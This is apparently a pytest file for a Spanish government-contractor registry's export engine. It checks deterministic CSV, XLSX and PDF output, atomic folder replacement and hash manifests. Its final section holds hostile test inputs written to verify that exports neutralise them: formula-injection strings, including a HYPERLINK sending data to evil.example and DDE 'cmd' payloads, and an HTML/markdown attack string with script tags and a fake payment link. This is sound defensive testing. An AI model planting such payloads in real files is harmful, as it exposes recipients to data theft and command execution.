"""The files the institutions must send: deterministic, in Spanish, matching the engine."""

from __future__ import annotations

import csv
import io
import signal
import subprocess
import sys
from datetime import date

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from repse.core import inputs as inp
from repse.core.api import Repositorio
from repse.core.exports import exportar
from repse.core.vista import Vista

from .test_engine import acto, at, opiniones, padron

RFCS = ["MAB9307148T4", "GODE561231GR8", "AEL7407151YA", "CAÑ8801014Y9", "BEA010101AB4"]


@pytest.fixture
def repo(tmp_path):
    empty = tmp_path / "vacio.toml"
    empty.write_text("")
    r = Repositorio.crear(tmp_path / "x.db", calendario=empty, simulacion=True)
    _a, b, c, d, e = RFCS
    r.registrar(padron("2026-01-26T09:00:00", "2026-1", *RFCS))
    r.registrar(opiniones("2026-01-26T17:00:00", "2026-1", 1, True,
                          **{b: "negativa", c: "sin_opinion", d: "negativa", e: "sin_opinion"}))
    r.registrar(acto(inp.Exhorto, "2026-01-29T10:00:00", "2026-1", b, c, d, e, actor="gt"))
    r.registrar(opiniones("2026-03-03T11:00:00", "2026-1", 2, True,
                          **{b: "negativa", d: "negativa", e: "sin_opinion"}))
    r.registrar(acto(inp.InicioCancelacion, "2026-03-03T13:00:00", "2026-1", b, d, e,
                     actor="stps"))
    r.registrar(opiniones("2026-03-11T11:00:00", "2026-1", 3, True,
                          **{b: "negativa", e: "sin_opinion"}))
    r.registrar(acto(inp.CancelacionImpedida, "2026-03-11T15:00:00", "2026-1", e,
                     actor="stps", motivo="suspensión provisional"))
    r.registrar(acto(inp.Cancelacion, "2026-03-11T16:00:00", "2026-1", b, actor="stps"))
    r.registrar(opiniones("2026-03-12T11:00:00", "2026-1", "diaria", **{e: "sin_opinion"}))
    yield r
    r.store.close()


def read_csv(path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("ronda", [1, 2, 3, "diaria"])
def test_exports_are_deterministic_and_pinned(repo, tmp_path, snapshot, ronda):
    first = exportar(repo.vista(), "2026-1", tmp_path / "a", ronda=ronda)
    second = exportar(repo.vista(), "2026-1", tmp_path / "b", ronda=ronda)
    assert [p.read_bytes() for p in first] == [p.read_bytes() for p in second]
    text = []
    for path in first:
        rel = path.relative_to(tmp_path / "a")
        if path.suffix == ".xlsx":
            rows = list(load_workbook(path).active.iter_rows(values_only=True))
            body = "\n".join(" | ".join(str(v) for v in row) for row in rows)
        elif path.suffix == ".pdf":  # the text a person reads, page by page
            body = "\n".join(f"--- página {k}\n{p.extract_text()}"
                             for k, p in enumerate(PdfReader(path).pages, 1))
        else:
            body = path.read_bytes().decode("utf-8").lstrip("\ufeff").replace("\r\n", "\n")
        text.append(f"===== {rel} =====\n{body}")
    # Every file names the last input it reflects; its hash chains the store's path (the
    # calendar's file), which changes per run, so the snapshot names it.
    ancla = repo.vista().ancla
    assert all(str(ancla) in t for t in text)
    assert "\n".join(text).replace(ancla.hash, "<hash>") == snapshot


def test_the_exported_lists_match_the_states_the_engine_reports(repo, tmp_path):
    exportar(repo.vista(), "2026-1", tmp_path / "salidas", ronda=3)
    listed = {row[0] for name in ("negativa", "sin_opinion")
              for row in read_csv(tmp_path / "salidas" / f"listado_ronda3_{name}.csv")[1:]}
    states = repo.vista().contratistas()
    after_round_3 = {rfc for rfc, s in states.items()
                     if s.estado in ("por_cancelar", "cancelado", "cancelacion_suspendida")}
    assert listed == after_round_3 == {RFCS[1], RFCS[4]}


def test_letters_carry_the_notification_date_given(repo, tmp_path):
    from .test_documentos import texto_pdf

    files = exportar(repo.vista(), "2026-1", tmp_path / "salidas", ronda=1,
                     notificacion=date(2026, 1, 28))
    letter = texto_pdf(next(p for p in files if p.name == f"exhorto_{RFCS[3]}.pdf"))
    assert "RFC: CAÑ8801014Y9" in letter
    assert "surte efectos el 28 de enero de 2026" in letter
    assert "El plazo vence el 27 de febrero de 2026." in letter
    assert len([p for p in files if p.parent.name == "exhortos"]) == 4


def test_the_round_in_course_is_the_latest_with_lists(repo, tmp_path):
    assert repo.vista().ronda_en_curso("2026-1") == "diaria"  # a cancellation was impeded
    past = Vista(repo.en_instante(at("2026-03-04T00:00:00")), congelado=True)
    assert past.ronda_en_curso("2026-1") == 2


# --- Atomic exports with a manifest (issue 10, point 5) ---------------------------------------
def contents(folder) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_re_export_replaces_the_folder_and_keeps_no_stale_file(repo, tmp_path):
    destino = tmp_path / "salidas" / "2026-1"
    exportar(repo.vista(), "2026-1", destino, ronda=1)
    assert (destino / "exhortos").is_dir()
    files = exportar(repo.vista(), "2026-1", destino, ronda=2)
    # The round-1 letters are gone: the folder holds exactly the round-2 export.
    assert set(contents(destino)) == {str(p.relative_to(destino)) for p in files} | {
        "manifiesto.json"}
    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]


def test_an_interrupted_export_leaves_the_previous_folder_intact(repo, tmp_path):
    destino = tmp_path / "salidas" / "2026-1"
    exportar(repo.vista(), "2026-1", destino, ronda=2)
    before = contents(destino)

    def killed(done, total):
        raise KeyboardInterrupt  # the operator stops it while the letters are written

    with pytest.raises(KeyboardInterrupt):
        exportar(repo.vista(), "2026-1", destino, ronda=1, progreso=killed)
    assert contents(destino) == before
    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
def test_a_killed_export_leaves_the_previous_folder_and_the_next_one_cleans_up(repo, tmp_path):
    destino = tmp_path / "salidas" / "2026-1"
    exportar(repo.vista(), "2026-1", destino, ronda=2)
    before = contents(destino)
    repo.cerrar()
    # Another process exports round 1 and is killed while it writes the letters.
    script = (
        "import os, signal, sys\n"
        "from repse.core.api import Repositorio\n"
        "from repse.core.exports import exportar\n"
        "repo = Repositorio.abrir(sys.argv[1])\n"
        "exportar(repo.vista(), '2026-1', sys.argv[2], ronda=1,\n"
        "         progreso=lambda done, total: os.kill(os.getpid(), signal.SIGKILL))\n")
    done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "x.db"), str(destino)],
                          check=False)
    assert done.returncode == -signal.SIGKILL
    assert contents(destino) == before
    [resto] = [p for p in (tmp_path / "salidas").iterdir() if p != destino]
    assert resto.name.startswith(".2026-1.exportando-")
    again = Repositorio.abrir(tmp_path / "x.db")
    exportar(again.vista(), "2026-1", destino, ronda=1)
    again.cerrar()
    assert sorted(p.name for p in (tmp_path / "salidas").iterdir()) == ["2026-1"]


def test_the_manifest_lists_every_file_its_hash_and_the_log_anchor(repo, tmp_path):
    import hashlib
    import json

    destino = tmp_path / "salidas"
    files = exportar(repo.vista(), "2026-1", destino, ronda=3)
    manifiesto = json.loads((destino / "manifiesto.json").read_text())
    numero, digest = repo.store.last()
    assert manifiesto["ancla"] == {"numero": numero, "hash": digest}
    assert (manifiesto["ciclo"], manifiesto["ronda"]) == ("2026-1", 3)
    listed = {a["ruta"]: a for a in manifiesto["archivos"]}
    assert set(listed) == {str(p.relative_to(destino)) for p in files}
    for p in files:
        data = p.read_bytes()
        entry = listed[str(p.relative_to(destino))]
        assert (entry["bytes"], entry["sha256"]) == (len(data), hashlib.sha256(data).hexdigest())
    # Rows per list: B (negativa) and E (sin opinión) reached round 3.
    assert listed["listado_ronda3_negativa.csv"]["filas"] == 1
    assert listed["listado_ronda3_sin_opinion.xlsx"]["filas"] == 1


@pytest.mark.parametrize("sufijo", ["csv", "xlsx"])
def test_an_exported_list_names_its_anchor_and_reads_back_as_a_list(repo, tmp_path, sufijo):
    from repse.core.importing import leer

    exportar(repo.vista(), "2026-1", tmp_path / "salidas", ronda=1)
    path = tmp_path / "salidas" / f"listado_ronda1_negativa.{sufijo}"
    ancla = repo.vista().ancla
    if sufijo == "csv":
        header = read_csv(path)[0]
    else:
        book = load_workbook(path)
        header = [c.value for c in next(book.active.iter_rows(max_row=1))]
        assert book.properties.identifier == f"{ancla.numero}:{ancla.hash}"
    assert header[-1] == (f"Ancla del registro de entradas: {ancla.numero}:{ancla.hash} "
                          f"(refleja hasta la entrada {ancla.numero})")
    # Imported again, as the round's opinions or as the RFCs of an act, the anchor is no row.
    for tipo in ("opiniones", "exhorto"):
        lectura = leer(tipo, path)
        assert (len(lectura.filas), lectura.rechazos) == (2, ()), tipo
        assert {f.rfc for f in lectura.filas} == {RFCS[1], RFCS[3]}


def test_a_folder_that_is_not_an_export_is_never_replaced(repo, tmp_path):
    from repse.core.exports import ExportError

    (tmp_path / "notas.txt").write_text("mías")
    with pytest.raises(ExportError, match="no es una exportación"):
        exportar(repo.vista(), "2026-1", tmp_path, ronda=2)
    assert (tmp_path / "notas.txt").read_text() == "mías" and (tmp_path / "x.db").exists()


# --- Formula and markup injection (issue 10, point 7) -----------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Ver expediente")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "=1+1", "\t=1+1", "\r=1+1"]


def test_no_exported_cell_is_a_formula():
    from repse.core.exports import csv_bytes, xlsx_bytes

    rows = [(f"XAXX0{k}", name) for k, name in enumerate(FORMULAS)]
    text = csv_bytes(("RFC", "Razón social"), rows).decode("utf-8").lstrip("\ufeff")
    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    # OWASP: a cell that starts with = + - @ TAB or CR is prefixed with a single quote.
    assert cells == ["'" + name for name in FORMULAS]
    book = load_workbook(io.BytesIO(xlsx_bytes("Negativa", ("RFC", "Razón social"), rows)))
    got = [(c.value, c.data_type) for (c,) in book.active.iter_rows(min_row=2, min_col=2)]
    assert [t for _, t in got] == ["s"] * len(FORMULAS)  # text, never a formula
    assert [v for v, _ in got] == [name.replace("\r", "\n") for name in FORMULAS]  # XML: CR→LF


ATAQUE = ("ACME**\n\n# AVISO: su registro ya fue CANCELADO\n\nPague en [este enlace]"
          "(http://evil.example/pago) <img src=x onerror=alert(1)></p><script>x()</script>"
          "\r\n| XAXX010101000 | FALSO | 1 |\u2028## falso\u202e")


def una_sola_linea(pdf: bytes) -> list[str]:
    """The lines of a PDF's text: what an input brought never starts one of its own."""
    lines = [ln for page in PdfReader(io.BytesIO(pdf)).pages
             for ln in page.extract_text().splitlines()]
    assert not any(ln.startswith(("# AVISO", "| XAXX010101000", "## falso")) for ln in lines)
    assert not any(ch in ln for ln in lines for ch in "\u202e\u2028\r")
    return lines


def test_letters_and_the_oficio_keep_what_an_input_brings_on_its_line(repo):
    from repse.core.documentos import Exhortos, oficio_tercera
    from repse.core.vista import Exhortado, Listado

    vista = repo.vista()
    ciclo = vista.ciclo("2026-1")
    carta = Exhortos(vista, ciclo, date(2026, 1, 28)).carta(Exhortado(
        "XAXX010101AB1", ATAQUE, "F\n1", "x@y.mx\n## Sección", "Calle 1\n\n## Sección falsa",
        "negativa"))
    assert "Calle 1 ## Sección falsa" in una_sola_linea(carta)  # one line, as typed
    oficio = oficio_tercera(vista, ciclo, [Listado(3, "negativa", date(2026, 3, 11),
                                                   [("XAXX010101AB1", ATAQUE, "F|1")])])
    [row] = [ln for ln in una_sola_linea(oficio) if "XAXX010101AB1" in ln]
    assert row.startswith("1 XAXX010101AB1 ACME** # AVISO")
